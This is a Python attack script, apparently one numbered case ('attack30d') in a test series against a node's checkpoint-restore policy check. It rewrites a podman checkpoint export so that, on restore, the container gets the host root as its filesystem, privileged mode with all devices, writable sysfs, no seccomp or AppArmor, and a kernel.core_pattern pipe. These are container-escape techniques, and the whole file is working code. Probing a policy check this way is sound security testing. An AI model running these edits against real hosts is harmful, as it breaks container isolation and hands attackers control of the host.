"""attack30d: this node's own signed export (checkpoint/gpuckpt-dump.sig kept: the images are the node's) with
spec fields policy/spec_grants.py does not judge edited in spec.dump and config.dump's spec (or config.dump's own
fields), for podman's own `podman container restore --import`. usage: edit_spec.py SRC OUT MODE
MODE rootpath:  spec root.path = "/" (the host's root as the container's root).
MODE rootfs:    config.dump rootfs = "/" (podman's --rootfs: a host directory as the container's root).
MODE unmask:    spec linux.maskedPaths and linux.readonlyPaths emptied.
MODE privileged: config.dump privileged = true, mountAllDevices = true.
MODE procrw:    spec mounts: /sys loses "ro", and a sysfs mount rw at /mnt is added.
MODE cgroupnew: spec linux.cgroupsPath = /attack30d-cg (out of podman's libpod_parent).
MODE noseccomp: spec linux.seccomp removed, noNewPrivileges false.
MODE sysctl:    spec linux.sysctl kernel.core_pattern (not namespaced) and net.ipv4.ip_forward.
MODE apparmor:  spec process.apparmorProfile unconfined (this node has no LSM).
MODE rlimits:   spec process.rlimits NOFILE 2^20, CORE unlimited.
"""
import io, json, sys, tarfile
import zstandard

src, out, mode = sys.argv[1:4]


def edit(spec):
    linux = spec.setdefault("linux", {})
    if mode == "rootpath":
        spec["root"] = {"path": "/", "readonly": False}
    if mode == "unmask":
        linux["maskedPaths"], linux["readonlyPaths"] = [], []
    if mode == "procrw":
        for m in spec["mounts"]:
            if m["destination"] == "/sys":
                m["options"] = [o for o in m["options"] if o != "ro"]
        spec["mounts"].append({"destination": "/mnt", "type": "sysfs", "source": "sysfs", "options": ["rw"]})
    if mode == "cgroupnew":
        linux["cgroupsPath"] = "/attack30d-cg"
    if mode == "noseccomp":
        linux.pop("seccomp", None)
        spec["process"]["noNewPrivileges"] = False
    if mode == "sysctl":
        linux["sysctl"] = {"kernel.core_pattern": "|/var/tmp/attack30d/sysctl-core", "net.ipv4.ip_forward": "1"}
    if mode == "apparmor":
        spec["process"]["apparmorProfile"] = "unconfined"
    if mode == "rlimits":
        spec["process"]["rlimits"] = [{"type": "RLIMIT_NOFILE", "hard": 1 << 20, "soft": 1 << 20},
                                      {"type": "RLIMIT_CORE", "hard": 18446744073709551615, "soft": 18446744073709551615}]
    return spec


with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as tin:
    members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin]
cid = next(json.loads(d)["id"] for m, d in members if m.name == "config.dump")
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, data in members:
        if m.name == "spec.dump":
            data = json.dumps(edit(json.loads(data))).encode()
        elif m.name == "config.dump":
            doc = json.loads(data)
            if mode == "rootpath":  # config.dump's spec keeps podman's relative "rootfs"
                pass
            else:
                doc["spec"] = edit(doc["spec"])
            if mode == "rootfs":
                doc["rootfs"] = "/"
            if mode == "privileged":
                doc["privileged"], doc["mountAllDevices"] = True, True
            data = json.dumps(doc).encode()
        if data is not None:
            m.size = len(data); tout.addfile(m, io.BytesIO(data))
        else:
            tout.addfile(m)
print(out, cid)
